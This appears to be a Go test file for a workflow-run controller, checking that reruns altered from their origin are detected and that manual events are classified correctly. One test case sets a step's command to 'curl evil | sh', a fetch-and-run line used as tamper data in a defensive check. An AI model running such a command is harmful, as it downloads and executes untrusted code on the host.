package workflow

import (
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	krtv1 "krt.dev/krt/api/v1alpha1"
)

func TestOriginDiff(t *testing.T) {
	push := func(edit func(*krtv1.WorkflowRun)) *krtv1.WorkflowRun {
		wr := &krtv1.WorkflowRun{
			ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{
				krtv1.LabelEvent: krtv1.EventPush, krtv1.LabelRepository: "web", "team": "a"}},
			Spec: krtv1.WorkflowRunSpec{Workflow: "deploy", Event: krtv1.WorkflowEvent{Type: krtv1.EventPush},
				Definition: krtv1.WorkflowSpec{Steps: []krtv1.Step{{Name: "ship", Run: "make deploy"}}}},
		}
		if edit != nil {
			edit(wr)
		}
		return wr
	}
	orig := push(nil)
	for _, tc := range []struct {
		name  string
		rerun *krtv1.WorkflowRun
		want  string
	}{
		{"a faithful rerun", push(func(wr *krtv1.WorkflowRun) {
			wr.Spec.RerunOf, wr.Spec.TriggeredBy, wr.Labels["team"] = "deploy-1", "bob", "b"
		}), ""},
		{"a step of its own", push(func(wr *krtv1.WorkflowRun) {
			wr.Spec.Definition.Steps[0].Run = "curl evil | sh"
		}), "spec"},
		{"approval changed", push(func(wr *krtv1.WorkflowRun) { wr.Spec.RequireApproval = true }), "spec"},
		{"another repository", push(func(wr *krtv1.WorkflowRun) { wr.Labels[krtv1.LabelRepository] = "ops" }), "krt.dev/ labels"},
		{"a label added", push(func(wr *krtv1.WorkflowRun) { wr.Labels["krt.dev/concurrency-group"] = "prod" }), "krt.dev/ labels"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := originDiff(tc.rerun, orig); got != tc.want {
				t.Errorf("originDiff = %q, want %q", got, tc.want)
			}
		})
	}
}

func TestPlainlyManual(t *testing.T) {
	for _, tc := range []struct {
		name   string
		event  string
		labels map[string]string
		want   bool
	}{
		{"manual, unlabelled", krtv1.EventManual, nil, true},
		{"manual, labelled manual", krtv1.EventManual, map[string]string{krtv1.LabelEvent: krtv1.EventManual}, true},
		{"manual, labelled push", krtv1.EventManual, map[string]string{krtv1.LabelEvent: krtv1.EventPush}, false},
		{"push", krtv1.EventPush, map[string]string{krtv1.LabelEvent: krtv1.EventPush}, false},
		{"manual, with a push's payload", krtv1.EventManual, map[string]string{"payload": "push"}, false},
	} {
		wr := &krtv1.WorkflowRun{ObjectMeta: metav1.ObjectMeta{Labels: tc.labels},
			Spec: krtv1.WorkflowRunSpec{Event: krtv1.WorkflowEvent{Type: tc.event}}}
		if tc.labels["payload"] == "push" {
			wr.Labels, wr.Spec.Event.Push = nil, &krtv1.PushEvent{Branch: "main"}
		}
		if got := plainlyManual(wr); got != tc.want {
			t.Errorf("%s: plainlyManual = %v, want %v", tc.name, got, tc.want)
		}
	}
}
